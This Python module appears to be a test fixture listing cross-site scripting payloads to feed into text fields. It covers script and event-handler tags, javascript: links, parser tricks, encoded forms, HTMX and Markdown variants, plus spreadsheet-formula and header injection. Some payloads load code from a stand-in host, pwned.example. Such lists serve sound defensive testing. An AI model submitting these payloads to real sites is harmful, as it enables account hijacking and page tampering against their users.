"""What somebody hostile types into whatever takes text; each fits the narrowest field that has words."""

from collections.abc import Iterable

MARK = "pwned"  # stands in each: whatever bears it on a page came from here

PAYLOADS = [
    # Elements
    "<script>pwned()</script>",
    "<ScRiPt src=//pwned.example/x.js></sCrIpT>",
    "<<script>pwned()//<</script>",
    "<img src=x onerror=pwned()>",
    "<img src=x onerror=pwned()//",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    '<svg><a xlink:href="javascript:pwned()"><text>x</text></a>',
    '<math href="javascript:pwned()">x</math>',
    '<iframe srcdoc="<script>pwned()</script>"></iframe>',
    '<iframe src="javascript:pwned()"></iframe>',
    '<object data="data:text/html,<script>pwned()</script>">',
    '<embed src="//pwned.example/x.swf">',
    '<base href="//pwned.example/">',
    '<meta http-equiv=refresh content="0;url=//pwned.example">',
    '<link rel=stylesheet href="//pwned.example/x.css">',
    "<style>@import '//pwned.example/x.css'</style>",
    '<p style="background:url(//pwned.example)">x',
    '<form action="javascript:pwned()"><button>x</button>',
    '<button formaction="javascript:pwned()">x',
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<x onclick=pwned()>x",
    '<a id=pwned href="jav\nascript:pwned()">x</a>',
    '<a href="java&Tab;script:pwned()">x</a>',
    '<a href="\x01javascript:pwned()">x</a>',
    # What a browser makes of it only when it is parsed again
    "<math><mtext><mglyph><style><img src onerror=pwned()>",
    '<noscript><p title="</noscript><img src onerror=pwned()>">',
    "<template><img src=x onerror=pwned()></template>",
    "<table><td><img src=x onerror=pwned()></table>",
    "<select><style></select><img src=x onerror=pwned()>",
    # Out of attributes
    '" onmouseover="pwned()',
    "' onmouseover='pwned()",
    " onmouseover=pwned() x=",
    "` onmouseover=pwned() `",
    '"><img src=x onerror=pwned()>',
    "'><img src=x onerror=pwned()>",
    # Out of elements, comments and data
    "</textarea><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</script><script>pwned()</script>",
    "</style><img src=x onerror=pwned()>",
    "--><script>pwned()</script><!--",
    "<!--><script>pwned()</script>-->",
    "<![CDATA[><script>pwned()</script>]]>",
    "]]><script>pwned()</script>",
    '{"a":"</script><script>pwned()</script>"}',
    '";pwned();//',
    "';pwned();//",
    "${pwned()}",
    "\u2028pwned()\u2029",
    # Read once more than was meant
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;img src=x onerror=pwned()&#62;",
    "%3Cscript%3Epwned()%3C/script%3E",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "\u202e<tpircs/>)(denwp<tpircs> <script>pwned()</script>",
    # HTMX
    "<a hx-get=/pwned hx-trigger=load>x</a>",
    "<a data-hx-get=/pwned data-hx-trigger=load>x</a>",
    "<a hx-on:click=pwned()>x</a>",
    '" hx-get="/pwned" hx-trigger="load',
    # Markdown
    "[x](javascript:pwned())",
    "[x](JaVaScRiPt:pwned())",
    "[x](&#106;avascript:pwned())",
    "[x](vbscript:pwned())",
    "[x](data:text/html;base64,cHduZWQoKQ,pwned)",
    "![x](javascript:pwned())",
    "<javascript:pwned()>",
    "[p]: javascript:pwned()\n\n[p]",
    '[x](https://a.org "\\" onmouseover=\\"pwned()")',
    # Templates, tables, headers
    '{% now "pwned" %}{{ 7|add:7 }}',
    '=HYPERLINK("http://pwned.example","x")',
    "+pwned()",
    "-pwned()",
    "@SUM(pwned)",
    "\t=pwned()",
    "x\r\nSet-Cookie: pwned=1",
    "javascript:pwned()",
    # Last, for it may swallow what follows
    '```html caption="</summary><script>pwned()</script>"\n```',
]


def chunks(limit: int | None, joint: str = " ", of: Iterable[str] = PAYLOADS) -> list[str]:
    """All of them in as few texts of at most `limit` characters as they fit in, in order."""
    found = [""]
    for payload in of:
        whole = f"{found[-1]}{joint}{payload}" if found[-1] else payload
        if limit is None or len(whole) <= limit:
            found[-1] = whole
        else:
            found.append(payload)
    return found
